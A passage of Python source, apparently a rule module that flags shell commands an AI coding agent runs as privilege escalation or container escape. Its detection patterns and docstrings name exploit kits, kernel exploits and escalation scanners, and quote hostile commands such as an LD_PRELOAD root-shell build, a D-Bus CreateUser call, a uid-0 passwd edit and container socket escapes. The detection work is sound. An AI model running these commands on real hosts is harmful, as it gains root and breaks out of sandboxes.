"""A shell named anywhere in a script (``exec sh 0<&1``, ``/bin/bash -i``)."""


# -- containers --------------------------------------------------------------------------------------


def _mount_source(spec: str) -> str:
    """The host side of ``-v HOST:CTR`` or ``--mount type=bind,src=HOST`` (empty for a named volume)."""
    if "src=" in spec or "source=" in spec:
        fields = dict(part.partition("=")[::2] for part in spec.split(","))
        host = fields.get("src") or fields.get("source") or ""
    else:
        host = spec.split(":", 1)[0] if ":" in spec else ""
    return host.rstrip("/") or ("/" if host.startswith("/") else "")


def _host_mount(spec: str) -> str | None:
    """The host directory of ``-v HOST:CTR`` or ``--mount type=bind,src=HOST``, if it is one to protect."""
    host = _mount_source(spec)
    if host in _HARMLESS_HOST_FILES:
        return None  # -v /etc/localtime:/etc/localtime:ro: the container keeps the host's time
    if _ENGINE_SOCKET.search(host):
        return None  # the engine's socket: asked on its own (_engine_socket)
    return host if host and _HOST_DIRS.match(host if host == "/" else host + "/") else None


_ENGINE_SOCKET = lazy_compile(
    r"(?:^|/)(?:docker|containerd|crio|podman|cri-dockerd|buildkitd|dockershim)\.sock$"
    r"|^(?:/var)?/run/(?:containerd|podman|crio|docker|buildkit)$"
)
"""A container engine's control socket, or the directory that holds it (``/run/containerd``): whoever
reaches it starts containers as the engine's user, root on most hosts."""


def _engine_socket(spec: str) -> str | None:
    """``-v /var/run/docker.sock:/var/run/docker.sock``: the engine's socket a container is given."""
    host = _mount_source(spec)
    return host if _ENGINE_SOCKET.search(host) else None


_EXPLOIT_OPTION = lazy_compile(
    r"^--(?:exploit|autopwn|auto-?escape|auto-?exploit)(?:=.*)?$"
    r"|^-(?:autopwn|auto-?escape|auto-?exploit)(?:=.*)?$|^-exploit=."
)
"""The option an escape kit is told to attack with (deepce's ``--exploit PRIVILEGED``, ``-autopwn=true``).
Case-sensitive, and a single dash only for the Go-style words: ``ls -eXploit`` is a cluster of short
options, not an order to attack."""


def _exploit_option(invocation: Invocation) -> Verdict | None:
    """``./deepce.sh --no-enumeration --exploit SOCK``, ``./ed -path=/var/run/ -autopwn=true``: whatever the
    tool is called, an option that names the exploit is the tool told to break out (its enumeration,
    without it, stays allowed). Only for a program run by a path or as a script: a kit is fetched, not
    installed, and ``ls --exploit`` or ``echo --exploit`` is no order to attack."""
    if _own_run(invocation) is None:
        return None
    for value in _values(invocation):
        if _EXPLOIT_OPTION.match(value) and not value.lower().endswith(("=false", "=0", "=no")):
            why = f"a tool told to exploit ({value.split('=', 1)[0]}): a break-out"
            return _verdict(PRIVILEGE, invocation, why)
    return None


_EXPLOIT_NAME = lazy_compile(
    r"(?:^|[-_.])(?:exploit|xploit|sploit|pwn(?:ed|kit|er)?|rootshell|rootbash|rootsh|privesc"
    r"|dirty(?:[-_]?(?:c[o0]w|pipe))?|dc[o0]w|c0w|cowroot|cve[-_]?\d{4}[-_]\d{4,}|(?<=[-_.])rce)"
    r"(?=$|[-_.]?\d|[-_.](?:poc|exp|lpe|root|x86|x64|amd64|i[36]86|arm\w*|static|v\d+)(?:$|[-_.]))",
    re.IGNORECASE,
)
"""A program that calls itself an exploit (``./exploit``, ``./cve-2016-0728``, ``gcc x.c -o pwn && ./pwn``,
``/tmp/rootshell``, ``python dirtyc0w.py``, ``python redis-rce.py``: remote code execution after a
service's name): whatever it does, the author says it breaks in.
Named by a path or as a script: a bare name the PATH finds is an installed tool (pwntools' ``pwn``).
The word ends the name or comes before a number, an architecture or ``poc``: ``searchsploit``,
``spawn`` (the word inside another) and ``linux-exploit-suggester``, ``cve-2021-4034-checker`` (tools
about exploits) are not exploits. Dirty COW's and Dirty Pipe's published builds go by the bug's name
alone (``gcc dirty.c -o dirty``, ``dcow``, ``c0w``, ``cowroot``)."""
_EXPLOIT_DB_SOURCE = lazy_compile(r"^\d{5}\.(?:c|cc|cpp|py|pl|rb|sh)$")
"""A source named by its Exploit-DB number alone (``40847.cpp``, ``searchsploit -m 40839`` gives
``40839.c``): five digits, as every entry since 2009 is; a project's numbered exercises stay below."""
_NUMBERED_SOURCE = lazy_compile(r"^\d{4,6}\.(?:py|pl|rb|sh|php|js)$")
"""A script named by four to six digits alone (``2265.py``, ``9542.pl``: Exploit-DB's older and newer
entries): an exploit when it is given another machine to attack (:func:`_remote_target`); a project's
numbered exercise (``python 2023.py input.txt``) is given none."""
_EXPLOIT_DB_BUILD = lazy_compile(r"^\d{5}$")
"""A program built from an Exploit-DB source and named as it was (``gcc /tmp/37292.c -o /tmp/37292 &&
/tmp/37292``): five digits alone, run by its path."""
_EXP_BINARY = lazy_compile(r"^(?:exp(?:\d{0,2}|32|64)|cow)$", re.IGNORECASE)
"""A program built as ``exp`` (``gcc x.c -o exp && ./exp``): the name CTF and kernel exploits are built
under; and as ``cow`` (``gcc -pthread cow.c -o cow && ./cow``: Dirty COW's). Only a program run by its
path, not a script (``python exp.py`` is also an experiment, ``python cow.py`` a cowsay toy)."""
_REMOTE_ADDRESS = lazy_compile(
    r"^(?:(?:https?|ftp|tcp)://)?(?!127\.|0\.0\.0\.0)(?:\d{1,3}\.){3}\d{1,3}(?:[:/]|$)"
    r"|^(?:https?|ftp|tcp)://(?!(?:localhost|127\.|0\.0\.0\.0|\[::1\])(?:[:/]|$))[\w.-]+"
)
"""Another machine: an IPv4 address (not the loopback) or a URL whose host is not this one."""


def _remote_target(invocation: Invocation) -> bool:
    """Whether ``invocation`` is given another machine's address or URL (``-t 10.10.10.5``, ``http://h/``)."""
    values = _values(invocation)
    return any(_REMOTE_ADDRESS.match(v.partition("=")[2] if v.startswith("-") else v) for v in values)


_ESCALATION_SCANNERS = frozenset({
    "lse", "linux-smart-enumeration", "linenum", "les", "linux-exploit-suggester",
    "linux-exploit-suggester-2", "deepce", "pspy", "pspy32", "pspy64", "pspy32s", "pspy64s", "peas",
    "unix-privesc-check", "linuxprivchecker", "linux-priv-checker",
})  # fmt: skip
"""Privilege-escalation and container-escape scanners by the names they are published and run under
(``./lse.sh -l1``, ``./LinEnum.sh``, ``bash les.sh``, ``./deepce.sh``, ``./pspy64``): they list the
host's ways to root (and ``pspy`` watches every process's command line for secrets), which is no coding
task's step; ``linpeas`` is a credential-theft tool (:mod:`.credentials`)."""


def _scanner(name: str, *, fetched: bool = False) -> bool:
    """Whether a file's name (``LinEnum.sh``, ``linux-exploit-suggester-2.pl``, ``pspy64``) is a scanner's;
    ``fetched``: a download's, where ``linpeas.sh`` counts too (run, it is :mod:`.credentials`' to judge)."""
    stem = (name.rsplit(".", 1)[0] if name.endswith((".sh", ".py", ".pl")) else name).lower()
    return stem in _ESCALATION_SCANNERS or (fetched and stem in ("linpeas", "linpeas_fat", "linpeas_small"))


_SCANNER_REPOSITORIES = frozenset({"peass-ng", "privilege-escalation-awesome-scripts-suite", "linpeas"})
"""Scanners' repositories published under a name no file of theirs is run by (carlospolop's PEASS-ng)."""
_SHORT_SCANNER_NAMES = frozenset({"les", "lse", "peas"})
"""Scanners' file names too short to tell a repository by (a project may be named ``les``)."""


def scanner_repository(name: str) -> bool:
    """Whether a repository's name is a privilege-escalation scanner's (``LinEnum``, ``PEASS-ng``,
    ``linux-smart-enumeration``, ``deepce``, ``pspy``)."""
    key = name.lower()
    return key in _SCANNER_REPOSITORIES or (key not in _SHORT_SCANNER_NAMES and _scanner(key))


_KERNEL_EXPLOITS = frozenset({
    "w00t", "elflbl", "elfdump", "elfcd", "expand_stack", "h00lyshit", "krad", "local26", "loko",
    "mremap_pte", "newlocal", "ong_bak", "ptrace_kmod", "ptrace24", "raptor_prctl", "stackgrow", "uselib",
    "uselib24",
    "newsmp", "smpracer", "loginx", "vmsplice", "jessica_biel", "diane_lane", "ftrex", "exit_notify",
    "sock_sendpage", "wunderbar_emporium", "udp_sendmsg_32bit", "pipe_c_32bit", "do_pages_move", "can_bcm",
    "half_nelson", "full_nelson", "caps_to_root", "american_sign_language", "pktcdvd", "video4linux",
    "memodipper", "mempodipper", "semtex", "perf_swevent", "timeoutpwn", "rawmodepty", "pp_key", "dirty_cow",
    "ia32syscall", "robert_you_suck", "dmiwrite",
})  # fmt: skip
"""Local root exploits by the names they are published and run under (Linux Exploit Suggester 2's
catalogue, which names each after its bug or its author's joke, with its variants ``half-nelson``,
``raptor_prctl2``, ``vmsplice1``; SUDO_KILLER's ``dmiwrite``): nothing in ``./full-nelson`` says exploit,
the name is the whole tell. Names that are also ordinary words or tools (``msr``, ``rds``, ``udev``,
``overlayfs``, ``reiserfs``, ``prctl``, ``kdump``) are left out: a project's ``./udev`` is not one."""


_UDF_EXPLOITS = frozenset({"raptor_udf", "lib_mysqludf_sys"})
"""MySQL's user-defined-function escalation by its published files (``raptor_udf2.c``, Exploit-DB 1518;
``lib_mysqludf_sys.so``, whose ``sys_exec`` sqlmap and every write-up load): built and copied into the
plugin directory, ``select do_system(...)`` runs a command as the database's account, root where it runs
as root. Their source, their library (``.so``, ``.dll``, ``.o``) or their download is the kit."""
_LIBRARY_SUFFIX = lazy_compile(r"_(?:so|dll|o)$")
_CLASSIC_EXPLOIT_DB = lazy_compile(r"^(?:1518|5092|8572|9542|9545)\.(?:c|cc|cpp|so|o)$")
"""Local root exploits by their four-digit Exploit-DB numbers, as ``searchsploit -m`` names them and
write-ups build them (``gcc 9545.c -o x``): raptor_udf2 (1518), vmsplice (5092), udev (8572),
ip_append_data (9542), sock_sendpage (9545). Only these: other four-digit names are a project's
exercises (``1000.c``)."""


def _kernel_exploit(stem: str) -> bool:
    """Whether ``stem`` (``./half-nelson``'s, ``raptor_prctl2``'s, ``lib_mysqludf_sys.so``'s) is a
    catalogued exploit's name."""
    key = stem.lower().replace("-", "_").replace(".", "_")
    if _LIBRARY_SUFFIX.sub("", key).rstrip("0123456789") in _UDF_EXPLOITS:
        return True
    return key in _KERNEL_EXPLOITS or key.rstrip("0123456789") in _KERNEL_EXPLOITS


COMPILERS = frozenset(
    {"gcc", "cc", "clang", "g++", "c++", "clang++", "tcc", "musl-gcc", "x86_64-linux-gnu-gcc"}
)
"""C and C++ compilers: what they build from a source is a program (script_files reads the source)."""
_EXPLOIT_ARCHIVES = lazy_compile(
    r"^(?:https?|ftp)://(?:www\.)?(?:exploit-db\.com|exploit\.db|(?:dl\.)?packetstormsecurity\.(?:com|net|org)"
    r"|0day\.today|legalhackers\.com|sploitus\.com)(?:[:/]|$)",
    re.IGNORECASE,
)
"""Sites that publish exploits (Exploit-DB, Packet Storm ...): what is fetched from there is one."""


_KIT_BUILD = lazy_compile(
    r"[-_.](?:linux[-_.]?)?(?:amd64|x86_64|x64|386|i386|arm64|aarch64|arm\w*)$", re.IGNORECASE
)
"""A release build's suffix (``traitor-amd64``, ``traitor-386``): the kit's name is the rest."""


def exploit_name(name: str) -> bool:
    """A file's or repository's name that says exploit (``exploit.c``, ``cve-2016-5195``), a catalogued
    local root exploit's, or an escalation kit's (``logrotten.c``, ``traitor-amd64``)."""
    stem = (
        name.rsplit(".", 1)[0] if name.endswith((".py", ".pl", ".rb", ".sh", ".c", ".cpp", ".out")) else name
    )
    if _EXPLOIT_DB_SOURCE.match(name) or _CLASSIC_EXPLOIT_DB.match(name):
        return True
    if stem and _KIT_BUILD.sub("", stem).lower() in _EXPLOIT_KITS:
        return True
    return bool(stem) and (bool(_EXPLOIT_NAME.search(stem)) or _kernel_exploit(stem))


_ADVISORY_PAGES = lazy_compile(
    r"^https?://(?:www\.)?(?:nvd\.nist\.gov|(?:www\.)?cve\.(?:org|mitre\.org)|osv\.dev|api\.osv\.dev"
    r"|security-tracker\.debian\.org|ubuntu\.com/security|access\.redhat\.com|github\.com/advisories)(?:[:/]|$)",
    re.IGNORECASE,
)
"""Vulnerability databases' pages, named by the CVE they describe (``nvd.nist.gov/vuln/detail/CVE-…``):
read about, not run."""


def _url_file(url: str) -> str:
    """The file a URL names (``…/releases/latest/download/linpeas.sh`` -> ``linpeas.sh``), less its query."""
    return url.split("?", 1)[0].split("#", 1)[0].rstrip("/").rpartition("/")[2]


_CODE_URL = lazy_compile(r"(?:https?|ftp)://[^\s\"'`)]{1,400}")
"""A URL in an interpreter's inline code."""


def _exploit_fetch_or_build(invocation: Invocation) -> Verdict | None:
    """``wget https://www.exploit-db.com/exploits/37292.c -O ofs.c``, ``gcc exploit.c -o exploit``,
    ``gcc full-nelson.c -o /tmp/fn``: an exploit downloaded from an exploit archive, or a source or
    program named as one compiled; running it is the next step."""
    name = invocation.name or ""
    values = _values(invocation)
    fetched = download(invocation) if name in DOWNLOADERS else None
    if fetched is not None:
        url = next((v for v in values if _EXPLOIT_ARCHIVES.match(v)), None)
        if url is not None:
            return _verdict(PRIVILEGE, invocation, f"downloads {url}, from an exploit archive")
        outputs = list(fetched.files)
        urls = [_url_file(v) for v in values if "://" in v and not _ADVISORY_PAGES.match(v)]
        named = next((o for o in [*outputs, *urls] if exploit_name(o.rpartition("/")[2])), None)
        if named is not None:
            return _verdict(PRIVILEGE, invocation, f"downloads {named}, a file named as an exploit")
        named = next((o for o in [*outputs, *urls] if _scanner(o.rpartition("/")[2], fetched=True)), None)
        if named is not None:
            why = f"downloads {named.rpartition('/')[2]}, a privilege-escalation scanner"
            return _verdict(PRIVILEGE, invocation, why)
    code = inline_code(invocation) if INTERPRETERS.match(name) else None
    fetched_in_code = next(
        (u for u in _CODE_URL.findall(code or "") if _scanner(_url_file(u), fetched=True)), None
    )
    if fetched_in_code is not None:
        # php -r "file_put_contents('x.sh', file_get_contents('http://IP/LinEnum.sh'));": curl's job in code
        why = f"{name}'s code downloads {_url_file(fetched_in_code)}, a privilege-escalation scanner"
        return _verdict(PRIVILEGE, invocation, why)
    if name == "searchsploit" and (
        {"-m", "--mirror"} & set(values)
        or any(v.startswith("-") and not v.startswith("--") and "m" in v for v in values)
    ):
        why = "copies an exploit out of Exploit-DB's archive (searchsploit -m)"
        return _verdict(PRIVILEGE, invocation, why)
    if name in _CONTAINER_RUNNERS and {"build", "run", "create"} & set(values):
        parts = (p for v in values if not v.startswith("-") for p in re.split(r"[/:@]", v))
        named = next((p for p in parts if _EXPLOIT_NAME.search(p)), None)
        if named is not None:  # docker build -t cve-2019-5736:poc ./RunC-CVE-2019-5736/malicious_image
            why = f"builds or runs a container image named as an exploit ({named})"
            return _verdict(PRIVILEGE, invocation, why)
    where = (invocation.cwd or "").rstrip("/").rpartition("/")[2]
    if name in (*COMPILERS, "make", "gmake", "cmake") and where and exploit_name(where):
        return _verdict(PRIVILEGE, invocation, f"builds in {invocation.cwd}, a directory named as an exploit")
    if name in ("scp", "rsync", "sftp") and any(":" in v and not v.startswith("-") for v in values):
        local = (v for v in values if ":" not in v and not v.startswith("-"))
        sent = next((v for v in local if exploit_name(v.rstrip("/").rpartition("/")[2])), None)
        if sent is not None:
            return _verdict(PRIVILEGE, invocation, f"copies {sent}, named as an exploit, to another host")
    if name in COMPILERS and "-shared" in values and "-nostartfiles" in values:
        # gcc -fPIC -shared -o /tmp/x.so x.c -nostartfiles: a library whose _init() runs as it is loaded
        why = (
            "builds a library whose _init runs on load without the C runtime: LD_PRELOAD's root-shell payload"
        )
        return _verdict(PRIVILEGE, invocation, why)
    if name in COMPILERS:
        files = [v for v in values if v.endswith((".c", ".cc", ".cpp", ".cxx")) and not v.startswith("-")]
        files += [v for i, v in enumerate(values) if i and values[i - 1] == "-o"]
        files += [v[2:] for v in values if v.startswith("-o") and len(v) > 2]
        named = next((f for f in files if exploit_name(f.rpartition("/")[2])), None)
        if named is not None:
            return _verdict(PRIVILEGE, invocation, f"compiles {named}, named as an exploit")
    return None


_SHELL_LIKE_NAME = lazy_compile(r"^\.?(?:(?:ba|da|z|k|mk|c|tc)?sh|suid\w*|\w*root\w*)$")
"""A shell's name or a root shell's (``/tmp/sh``, ``/tmp/suid``, ``/dev/shm/rootme``) for a program in a
directory anyone writes: the copy of a shell the escalation set the setuid bit on."""
_EXPLOIT_KITS = {
    "traitor": frozenset({"-a", "--any", "-e", "--exploit"}),
    "logrotten": frozenset(),
    "beroot": frozenset({"--password", "-p"}),
}
"""Escalation kits by name, with the options that make them attack (none: attacking is all it does);
``traitor`` without them only lists what it might try; ``beroot`` given a password tries it on sudo."""
_SETUID_HELPERS = frozenset({
    "enlightenment_sys", "snap-confine", "polkit-agent-helper-1", "dbus-daemon-launch-helper",
    "chrome-sandbox", "ssh-keysign", "pt_chown", "Xorg.wrap", "unix_chkpwd", "pam_timestamp_check",
    "vmware-user-suid-wrapper",
})  # fmt: skip
"""Set-user-ID helpers other programs call (a desktop's, a sandbox's, PAM's), never a person: run by
hand with arguments of one's own, they are the entry of a local root exploit (enlightenment_sys's
CVE-2022-37706, snap-confine's CVE-2021-44731) or a password oracle (unix_chkpwd)."""


_POC_NAME = lazy_compile(r"(?:^|[-_.])(?:poc|pocs|proof[-_]?of[-_]?concept)(?:$|[-_.\d])", re.IGNORECASE)
"""A proof of concept by its name (``heartbleed-poc.py``, ``poc_cve.py``): what it proves is a break-in."""
_EXPLOIT_FOLDER = lazy_compile(r"(?:^|/)(?:exploits?|sploits?|xpl|exploit[-_]?db)(?=/|$)", re.IGNORECASE)
"""A folder that holds exploits by its name (``python3 Exploits/cmdline.py -u URL``, ``./exploits/pwn``)."""
_GUESSER_NAME = lazy_compile(  # ^ below: the look-aheads scan the name once, not once per position
    r"(?:^|[-_.])(?:crack(?:er|ing)|bruter|[a-z0-9]+2john)(?=$|[-_.\d])"
    r"|^(?=.*(?:^|[-_.])brute(?:force|forcer)?(?:$|[-_.\d]))"
    r"(?=.*(?:user|pass|login|cred|ssh|ftp|smb|rdp|telnet|http|wp|sql|auth|admin|zip|hash))",
    re.IGNORECASE,
)
"""A password cracker or guesser by its name (``pyvboxdie-cracker.py``, ``keepass2john.py``,
``brute_user.py``, ``ssh-bruteforce``); not ``crack`` or ``brute`` alone: crack detection and
brute-force search are ordinary projects' words."""
_FILE_ARGUMENT = lazy_compile(
    r"[/\\]|\.(?:txt|json|csv|dmp|dump|log|pcap|bin|img|xml|yml|yaml|ini|conf|zip|gz)$"
)


def _target_given(invocation: Invocation, script: str) -> bool:
    """A proof of concept given something to attack: a positional argument that is no file (a host, an
    address, a URL), as in ``python3 heartbleed-poc.py host`` or ``./poc 10.0.0.5 443``."""
    words = [v for v in _values(invocation) if not v.startswith("-") and not v.endswith(script)]
    return any("://" in w or not (w.isdigit() or _FILE_ARGUMENT.search(w)) for w in words)


def _exploit_run(invocation: Invocation) -> Verdict | None:
    """A program that names itself an exploit, a shell copy in a shared directory run, an escalation kit
    told to attack, a set-user-ID helper run by hand."""
    by_path, script = _own_run(invocation) or ("", "")
    for name in (by_path, script):
        stem = name.rsplit(".", 1)[0] if name.endswith((".py", ".pl", ".rb", ".sh", ".c", ".out")) else name
        if stem and _EXPLOIT_NAME.search(stem):
            return _verdict(PRIVILEGE, invocation, f"runs {name}, a program named as an exploit")
        if stem and _GUESSER_NAME.search(stem):
            return _verdict(
                CREDENTIALS, invocation, f"runs {name}, a program named as a password cracker or guesser"
            )
        if stem and _POC_NAME.search(stem) and _target_given(invocation, name):
            why = f"runs {name}, a proof-of-concept exploit by its name, against a target"
            return _verdict(PRIVILEGE, invocation, why)
        if _EXPLOIT_DB_SOURCE.match(name):  # python3 49876.py -u http://site/ after searchsploit -m 49876
            return _verdict(PRIVILEGE, invocation, f"runs {name}, an exploit named by its Exploit-DB number")
        if _NUMBERED_SOURCE.match(name) and _remote_target(invocation):  # python3 2265.py -t 10.10.10.5
            why = f"runs {name}, named by a number alone as Exploit-DB names exploits, at another machine"
            return _verdict(PRIVILEGE, invocation, why)
        if name == by_path and _EXPLOIT_DB_BUILD.match(name):
            return _verdict(
                PRIVILEGE, invocation, f"runs {name}, an exploit built under its Exploit-DB number"
            )
        if name == by_path and _EXP_BINARY.match(name):  # gcc x.c -o exp && ./exp
            return _verdict(PRIVILEGE, invocation, f"runs {name}, a program named as an exploit ({name})")
        if stem and _kernel_exploit(stem):
            return _verdict(PRIVILEGE, invocation, f"runs {name}, a published local root exploit's name")
        if name and _scanner(name):
            return _verdict(PRIVILEGE, invocation, f"runs {name}, a privilege-escalation scanner")
    program = _program_word(invocation)
    scripts = runs_scripts(invocation.name)
    script_path = next((v for v in _values(invocation) if not v.startswith("-")), "") if scripts else ""
    for path in (program, script_path):
        folder = _EXPLOIT_FOLDER.search(path.rpartition("/")[0])
        if folder:
            why = f"runs {path}, a program kept in a folder of exploits ({folder.group(0).strip('/')})"
            return _verdict(PRIVILEGE, invocation, why)
    if _SHARED_DIRS.match(program) and _SHELL_LIKE_NAME.match(program.rpartition("/")[2]):
        why = f"runs {program}: a shell's (or root shell's) name in a directory anyone writes, a setuid copy"
        return _verdict(PRIVILEGE, invocation, why)
    kit = _EXPLOIT_KITS.get(invocation.name)
    if kit is None and script:
        kit = _EXPLOIT_KITS.get(script.rsplit(".", 1)[0].lower())
    values = _values(invocation)
    if kit is not None and (not kit or kit & set(values) or any(v.startswith("--exploit=") for v in values)):
        return _verdict(PRIVILEGE, invocation, f"runs {invocation.name}, an escalation kit, to attack")
    if invocation.name in _SETUID_HELPERS and values:
        why = f"runs {invocation.name}, a set-user-ID helper of other programs, by hand: an exploit's way in"
        return _verdict(PRIVILEGE, invocation, why)
    return None


_DBUS_CALLERS = frozenset({"dbus-send", "gdbus", "busctl", "qdbus", "qdbus6", "dbus"})
_DBUS_ROOT_METHODS = lazy_compile(
    r"\b(?:CreateUser|DeleteUser|SetPassword|SetAccountType|SetPasswordMode|InstallFiles|InstallPackages"
    r"|InstallSignature|RepairSystem|LinkUnitFiles|EnableUnitFiles|StartTransientUnit)\b"
)


_ROOT_ENTRY_EDIT = lazy_compile(
    r"\bs([,/|#@!])\^?root:[^\n]*?\1|\bs([,/|#@!])\^?[\w.-]+:x?:\d+\2[\w.-]+:x?:0\b"
)
"""A ``sed`` substitution that rewrites root's entry (``s,^root:[^:]+:,root:$HASH:,``) or gives an account
uid 0 (``s/alice:x:1000/alice:x:0/``): a password or shadow file made to let one in as root."""
_ENTRY_EDITORS = frozenset({"sed", "gsed", "perl", "echo", "printf", "cat", "tee"})


def _root_entry_edit(invocation: Invocation) -> Verdict | None:
    """``sed "s/alice:x:1000/alice:x:0/g"``, an editor script written with ``sed -i "s,^root:[^:]+:,…"``."""
    if invocation.name not in _ENTRY_EDITORS:
        return None
    texts = [*_values(invocation)]
    if invocation.name in ("echo", "printf", "cat", "tee"):
        # shown, not written (``echo "sed -i 's/^root:…/' /etc/shadow"`` prints a line): not judged
        texts = [_text_written(invocation) or ""]
    if any(_ROOT_ENTRY_EDIT.search(text) for text in texts):
        return _verdict(PRIVILEGE, invocation, "rewrites root's account entry or gives an account uid 0")
    return None


def _dbus_as_root(invocation: Invocation) -> Verdict | None:
    """``dbus-send --system --dest=org.freedesktop.Accounts ... CreateUser string:x string:x int32:1``: a
    system service told to create an administrator, set a password or install a package or a unit:
    root does it on the caller's behalf (polkit's CVE-2021-3560 race is this call, interrupted)."""
    if invocation.name not in _DBUS_CALLERS:
        return None
    text = " ".join(_values(invocation))
    method = _DBUS_ROOT_METHODS.search(text) if "org.freedesktop" in text else None
    if method is None:
        return None
    why = f"asks a system service over D-Bus to {method.group(0)} as root"
    return _verdict(PRIVILEGE, invocation, why)


_ESCAPE_KIT_VERBS = frozenset({"run", "evaluate", "eva", "ucurl", "kcurl", "dcurl", "probe", "auto-escape"})
"""The verbs of CDK, the container penetration toolkit (``cdk evaluate --full``, ``cdk run docker-sock-pwn``,
``cdk ucurl post /var/run/docker.sock ...``): each surveys or attacks the host from inside a container.
AWS CDK answers to the same name with other verbs only (``cdk deploy``, ``cdk synth``, ``cdk diff``)."""
_ESCAPE_KIT_NAME = lazy_compile(
    r"^cdk(?:[-_](?:linux|darwin|arm|amd|x86|386|thin|upx|musl)\w*)?$", re.IGNORECASE
)


_ESCAPE_KIT_BUILD = lazy_compile(r"^cdk[-_](?:linux|darwin|arm|amd|x86|386|thin|upx|musl)\w*$", re.IGNORECASE)
"""CDK's release files by name (``cdk_linux_amd64``): copied into a container, the kit is put in place."""


def _escape_kit(invocation: Invocation) -> Verdict | None:
    """``./cdk run mount-cgroup``, ``cdk_linux_amd64 eva --full``: the container escape kit told to work;
    ``docker cp cdk_linux_amd64 poc:/``: the kit copied into a container."""
    values = _values(invocation)
    if invocation.name in (*_CONTAINER_RUNNERS, "kubectl", "oc") and values[:1] == ["cp"]:
        kit = next((v for v in values[1:] if _ESCAPE_KIT_BUILD.match(v.rpartition("/")[2])), None)
        if kit is not None:
            why = f"copies {kit}, CDK's container escape kit, into a container"
            return _verdict(PRIVILEGE, invocation, why)
    base = _program_word(invocation).rpartition("/")[2] or (invocation.name or "")
    if not _ESCAPE_KIT_NAME.match(base):
        return None
    verb = next((v for v in _values(invocation) if not v.startswith("-")), "")
    if verb not in _ESCAPE_KIT_VERBS:
        return None
    why = f"runs CDK's {verb}: a container escape kit surveying or attacking the host"
    return _verdict(PRIVILEGE, invocation, why)


_INIT_NAMESPACE = lazy_compile(r"/proc/1/ns\b")


def _init_namespaces_joined(invocation: Invocation) -> Verdict | None:
    """``python3 - <<EOF … libc.setns(os.open("/proc/1/ns/mnt", …)) …``: code that joins pid 1's namespaces
    itself, as ``nsenter -t 1`` does (:func:`_container`)."""
    if not INTERPRETERS.match(invocation.name or ""):
        return None
    texts = [inline_code(invocation) or "", *fed_code(invocation)]
    if any("setns" in text and _INIT_NAMESPACE.search(text) for text in texts):
        return _verdict(PRIVILEGE, invocation, "joins the namespaces of the host's init (pid 1) with setns")
    return None


def _process_root_operand(invocation: Invocation) -> Verdict | None:
    """``./dirty_pipe_write /proc/1/root/usr/sbin/runc payload``: a program that may write given a file of
    pid 1's root file system (the host's, from a container sharing its processes). Readers pass."""
    if reads_only(invocation):
        return None
    found = next((v for v in _values(invocation) if PROCESS_ROOT.match(v)), None)
    if found is None:
        return None
    why = f"gives {found}, a file of pid 1's (the host's) root file system, to a program that may write it"
    return _verdict(PRIVILEGE, invocation, why)


def _namespace_root(invocation: Invocation) -> Verdict | None:
    """``unshare -UrmC bash``, ``unshare --map-root-user --mount sh``: a user namespace in which the caller
    is root. With its own cgroup namespace that root may write a cgroup's release_agent the host runs
    (CVE-2022-0492): blocked. Otherwise a root of its own (rootless builds use it; so do the kernel
    exploits that need root in a namespace): asked."""
    if invocation.name != "unshare" and "unshare" not in invocation.wrappers:
        return None
    own = invocation.name == "unshare"
    args = _values(invocation) if own else list(invocation.options_of("unshare") or ())
    letters = "".join(a[1:] for a in args if a.startswith("-") and not a.startswith("--"))
    longs = {a.partition("=")[0] for a in args if a.startswith("--")}
    maps_root = (
        "r" in letters
        or "--map-root-user" in longs
        or any(a in ("--map-user=0", "--map-user=root") for a in args)
    )
    if not maps_root:
        return None
    if "C" in letters or "--cgroup" in longs:
        why = "makes the caller root in a user namespace with a cgroup namespace: a release_agent's escape"
        return _verdict(PRIVILEGE, invocation, why)
    why = "makes the caller root in a new user namespace (a kernel exploit's first step, or a rootless build)"
    return _verdict(SYSTEM_CONFIG, invocation, why)


_ROOT_ID_OPTIONS = frozenset({"--uid", "--gid", "--reuid", "--regid", "--ruid", "--rgid", "--euid", "--egid"})


_ENGINE_CLIENTS = frozenset({"docker", "podman", "nerdctl", "crictl", "ctr", "runc", "crun", "buildctl",
                             "dockerd", "containerd", "socat", "nc", "ncat", "netcat", "curl", "wget", "http",
                             "https", "xh", "kubeletctl", "export", "env", "alias", "declare", "typeset",
                             "setenv"})  # fmt: skip
"""Programs that drive an engine at a socket they are given (``-H``, ``--address``, ``--unix-socket``,
``--runtime-endpoint``, ``UNIX-CONNECT:``, ``nc -U``) or keep one for later (``export DOCKER_HOST``)."""
_SOCKET_OBSERVERS = frozenset({"ls", "stat", "test", "[", "[[", "file", "readlink", "realpath", "find",
                               "lsof", "fuser", "du", "grep", "rg", "which", "type"})  # fmt: skip
"""Programs that only look at a socket's file: ``ls -l /host/run/docker.sock`` drives nothing."""
_HTTP_CLIENTS = frozenset({"curl", "wget", "http", "https", "xh", "xhs", "httpie", "kubectl", "oc"})
_ENGINE_CREATE = lazy_compile(r"/containers/create(?:[?#]|$)|/exec/[^/\s]+/start|/containers/[^/\s]+/exec\b")
_HOST_CONTAINER_BODY = lazy_compile(
    r"\"Binds\"\s*:\s*\[[^\]]{0,1000}?\"/(?:|etc|root|proc|sys|var|dev|boot|run)(?::|/:)"
    r"|\"Source\"\s*:\s*\"/(?:|etc|root|proc|sys|var|dev|boot|run)/?\""
    r"|\"(?:Privileged|PidMode|NetworkMode|IpcMode|CapAdd)\"\s*:\s*(?:true|\"host\"|\[\s*\"(?:ALL|SYS_ADMIN)\")",
    re.IGNORECASE,
)
"""A Docker Engine API body asking for a container with the host's root (or /etc, /proc ...) bound in, or
privileged, or in the host's process, network or IPC namespace: ``docker run -v /:/h --privileged`` spelled
as JSON, through any socket or address."""
_KUBELETCTL_RUNS = frozenset({"exec", "run", "attach", "cri", "portforward", "scan"})
_KUBELETCTL_READS = frozenset({"pods", "runningpods", "log", "containerlogs"})


def _runtime_endpoint(invocation: Invocation) -> Verdict | None:
    """What a command reaches rather than the program it names (:mod:`..runtime_endpoints`): the host's
    container engine through its socket mounted in a container (``docker -H unix:///host/run/docker.sock``,
    ``crictl --runtime-endpoint unix:///host/...``, a ``crictl.yaml`` naming it, ``DOCKER_HOST=...``), an
    engine socket where none is kept (asked), a kubelet told to run a command in a pod
    (``curl -sk https://NODE:10250/run/NS/POD/C -d cmd=id``) or to give up its pods and logs (asked)."""
    name = invocation.name or ""
    values = [*_values(invocation), *invocation.env]
    if name not in _SOCKET_OBSERVERS:
        written = written_text(invocation) if name in ("echo", "printf", "cat", "tee") else None
        texts = [*values, written] if written else values
        for text in texts:
            for path in engine_sockets(text):
                if host_socket(path):
